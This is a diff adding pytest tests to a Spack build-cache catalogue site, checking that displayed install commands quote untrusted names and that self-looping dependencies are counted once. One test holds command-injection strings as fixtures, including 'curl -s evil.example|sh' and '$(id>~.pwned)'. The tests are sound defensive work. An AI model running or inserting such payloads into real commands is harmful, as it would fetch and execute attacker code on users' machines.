@@ -2,14 +2,33 @@
 
 from __future__ import annotations
 
+import asyncio
+import html
+import re
+import shlex
+from pathlib import Path
+from typing import Any
+
+import httpx
+import msgspec
 import pytest
 
-from cachedex.catalog import Catalog
+from cachedex.catalog import Catalog, TagWriter
 from cachedex.errors import UnknownPackage, UnknownSpec
 from cachedex.publish.graph import SpecGraph
 from cachedex.publish.pages import package_page, package_pages, resolve, spec_page
 from cachedex.publish.render import to_json
-from tests.helpers import Demo
+from cachedex.publish.site import write_site
+from cachedex.values import Dependency
+from tests.helpers import Demo, record, write_tag
+
+
+def get(app: Any, path: str) -> httpx.Response:
+    async def go() -> httpx.Response:
+        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test") as client:
+            return await client.get(path)
+
+    return asyncio.run(go())
 
 
 def test_spec_graph_builds_exactly_the_pages_of_spec_page(demo_run: Demo) -> None:
@@ -72,3 +91,73 @@ def test_resolve_tells_hashes_from_package_names(small_catalog: Catalog) -> None
         resolve(small_catalog, "/qqq")
     with pytest.raises(UnknownPackage):
         resolve(small_catalog, "nothing-here")
+
+
+# -- findings of the reliability review ------------------------------------------------------
+
+
+def _mirror(writer: TagWriter, stack: str, url: str, members: dict[str, bool]) -> None:
+    writer.replace_mirror(
+        stack,
+        url,
+        layout=3,
+        db_version=8,
+        checksum=stack,
+        etag=None,
+        last_modified=None,
+        fetched_at=0.0,
+        members=members,
+    )
+
+
+def test_sec3_install_commands_quote_hostile_names_and_urls(tmp_path: Path) -> None:
+    # Names a remote tags_from file may hold: pasted unquoted, each runs its own command.
+    tag, stack = "dev;curl -s evil.example|sh;#", "e4s$(id>~.pwned)"
+    url = "http://127.0.0.1:18081/good dir/v3?a=1&b=`id`"
+    dag_hash = "q" * 32
+    path = tmp_path / "c.sqlite"
+    with Catalog(path) as catalog:
+        with catalog.writing_tag(tag) as writer:
+            writer.add_specs([record(dag_hash, "zlib")], {})
+            _mirror(writer, "root", url, {dag_hash: True})
+            _mirror(writer, stack, url + "/s", {dag_hash: True})
+        page = spec_page(catalog, dag_hash)
+        graph = SpecGraph(catalog)
+        assert graph.page(graph.ids[dag_hash], page.node) == page
+        site = write_site(catalog, tmp_path / "site")
+    keys = ["spack", "buildcache", "keys", "--install", "--trust"]
+    install = ["spack", "install", "--cache-only", f"/{dag_hash}"]
+    expected = {
+        "root": [["spack", "mirror", "add", tag, url], keys, install],
+        stack: [["spack", "mirror", "add", f"{tag}-{stack}", url + "/s"], keys, install],
+    }
+    assert {i.stack: [shlex.split(line) for line in i.commands.splitlines()] for i in page.install} == expected
+    # The same commands in the site's JSON twin, its copy buttons and its <pre>, and the API.
+    base = site.outdir / "specs" / dag_hash[:2] / dag_hash
+    twin = msgspec.json.decode((base.with_suffix(".json")).read_bytes())
+    assert [i["commands"] for i in twin["install"]] == [i.commands for i in page.install]
+    text = base.with_suffix(".html").read_text()
+    shown = [html.unescape(c) for c in re.findall(r'data-copy="([^"]*spack mirror add[^"]*)"', text)]
+    shown_pre = [html.unescape(c) for c in re.findall(r'<pre id="install-\d">([^<]*)</pre>', text)]
+    assert shown == shown_pre == [i.commands for i in page.install]
+    from cachedex.publish.serve import create_app
+
+    answer = get(create_app(path), f"/api/specs/{dag_hash}").json()
+    assert [i["commands"] for i in answer["install"]] == [i.commands for i in page.install]
+
+
+def test_cos5_a_self_loop_does_not_count_a_spec_twice_in_its_closure(tmp_path: Path) -> None:
+    own, other = "l" * 32, "m" * 32
+    loop = (Dependency(own, "selfish", 2, ""), Dependency(other, "zlib", 2, ""))  # 2: link
+    with Catalog(tmp_path / "c.sqlite") as catalog:
+        write_tag(
+            catalog,
+            "t",
+            [record(own, "selfish", dependencies=loop), record(other, "zlib")],
+            sizes={own: 12_300, other: 12_300},
+        )
+        page = spec_page(catalog, own)
+        graph = SpecGraph(catalog)
+        assert graph.page(graph.ids[own], page.node) == page
+    assert [e.hash for e in page.closure] == [other]
+    assert (page.closure_size, page.closure_unknown) == (24_600, 0)
